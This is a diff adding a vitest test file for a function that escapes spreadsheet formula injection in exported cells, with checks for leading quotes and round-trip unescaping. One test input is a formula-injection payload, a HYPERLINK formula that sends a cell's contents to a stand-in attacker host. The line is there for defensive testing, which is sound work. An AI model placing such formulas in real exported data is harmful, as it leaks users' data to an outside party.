@@ -1,0 +1,37 @@
+import { describe, expect, test } from 'vitest'
+import { escapeFormulas, unescapeFormulas } from './formula.ts'
+
+describe('escapeFormulas', () => {
+  test.each([
+    ['=HYPERLINK("http://evil.test/?"&B2,"open")', '\'=HYPERLINK("http://evil.test/?"&B2,"open")'],
+    ['+212 600 000 000', "'+212 600 000 000"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(1+1)', "'@SUM(1+1)"],
+    ['\t=1', "'\t'=1"],
+    ['\r=1', "'\r'=1"],
+    ['＝1', "'＝1"],
+    ['＠SUM(1)', "'＠SUM(1)"],
+  ])('%j begins with a quote', (text, cell) => {
+    expect(escapeFormulas(text)).toBe(cell)
+  })
+
+  test('has the quote also where a spreadsheet of another delimiter begins a cell', () => {
+    expect(escapeFormulas('Bonjour;=1+1;\n-2')).toBe("Bonjour;'=1+1;\n'-2")
+  })
+
+  test('leaves other texts alone', () => {
+    for (const text of ['', 'Salma', "l'Oréal", 'a=b', 'Bonjour,\n\nje postule', '2026-03-01', ' +1'])
+      expect(escapeFormulas(text)).toBe(text)
+  })
+})
+
+test('unescapeFormulas gives back every text, also one that begins with a quote itself', () => {
+  const parts = ['', "'", "''", '=', '-', ';', '\n', '\t', 'a']
+  for (const a of parts)
+    for (const b of parts)
+      for (const c of parts)
+        for (const d of parts) {
+          const text = a + b + c + d
+          expect(unescapeFormulas(escapeFormulas(text))).toBe(text)
+        }
+})
